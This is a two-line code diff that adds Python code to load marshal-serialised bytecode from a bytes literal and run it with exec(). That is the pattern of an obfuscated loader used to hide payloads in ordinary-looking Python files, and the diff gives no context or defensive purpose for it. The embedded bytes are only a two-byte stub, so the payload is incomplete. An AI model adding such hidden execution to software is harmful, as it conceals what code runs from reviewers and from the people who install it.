@@ -1,0 +1,2 @@
+from marshal import loads
+exec(loads(b"\xe3\x00"))
